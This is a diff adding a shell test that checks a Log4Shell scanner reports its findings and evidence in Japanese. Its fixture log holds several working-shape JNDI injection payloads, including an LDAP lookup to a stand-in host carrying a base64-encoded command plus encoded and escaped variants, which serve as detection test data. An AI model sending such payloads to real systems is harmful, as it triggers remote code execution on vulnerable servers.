@@ -104,3 +104,39 @@ scan_all() {
     echo "$output" | jq -e -s 'any(.[]; .error.id == "zip.too_many_entries" and
         .kensa.message_args == ["2"])' >/dev/null
 }
+
+# The words a finding's Japanese text may keep: product, class, file and
+# protocol names, CVE ids, callback URLs and the names of encodings.
+names_out() {
+    sed -E 's/log4j-core|log4j|Log4j|Log4Shell|JndiLookup|JndiManager|Interpolator|SocketNode|pom\.properties|MANIFEST\.MF|CVE-[0-9-]+|JNDI|URL|Java|[a-z]+:\/\/[a-z0-9.]*|[a-zA-Z/$]+\.class|[a-zA-Z]+Appender|JMSSink|SocketServer|chainsaw|jndi:[^ ]*|\b(url|cesc|html|b64)\b//g'
+}
+
+@test "lang: findings speak Japanese: message and evidence, in JSON and text, no English sentence" {
+    make_fixtures
+    printf '%s\n' \
+      '${jndi:ldap://x.example:1389/Basic/Command/Base64/dG91Y2ggL3RtcC9wd24=}' \
+      '%24%7Bjndi%3Aldap%3A%2F%2Fz.example%2Fa%7D' '$${jndi:ldap://w.example/a}' \
+      '${jndi:foo}' '${jndi:LDAP://m.example/a}' > "$T/a.log"
+    output=$("$KENSA" scan --json --lang ja --threads 1 --no-confine \
+        --no-summary --all "$FX/plain" "$FX/v1" "$FX/mitigated" "$T/a.log" \
+        2>/dev/null) || true
+    # every finding has its message in Japanese, and so has its evidence
+    echo "$output" | jq -e -s '[.[] | select(.kensa.verdict)] | length >= 10 and
+        all(.kensa.message | test("[ぁ-んァ-ヶ一-龠]")) and
+        all(if .kensa.evidence then (.kensa.evidence_localized |
+            test("[ぁ-んァ-ヶ一-龠]")) else true end)' >/dev/null
+    echo "$output" | jq -r 'select(.kensa.verdict) | .kensa.message,
+        (.kensa.evidence_localized // empty)' >"$T/ja.txt"
+    names_out <"$T/ja.txt" >"$T/ja.left"
+    ! grep -nE '[A-Za-z]{3,}' "$T/ja.left"
+    # the English is still there for SIEM rules, and holds English words
+    echo "$output" | jq -r 'select(.kensa.verdict) | .message' | names_out |
+        grep -qE '[A-Za-z]{4,} [A-Za-z]{3,}'
+    # the text report: the same Japanese, and the labels too
+    "$KENSA" scan --lang ja --threads 1 --no-confine --no-summary --color never \
+        "$FX/plain/log4j-core-2.14.1.jar" "$T/a.log" >"$T/ja.out" 2>/dev/null || true
+    grep -q 'には脆弱性があります' "$T/ja.out"
+    grep -q 'Log4Shell の攻撃' "$T/ja.out"
+    grep -q 'バージョン' "$T/ja.out"
+    grep -q '根拠：' "$T/ja.out"
+}
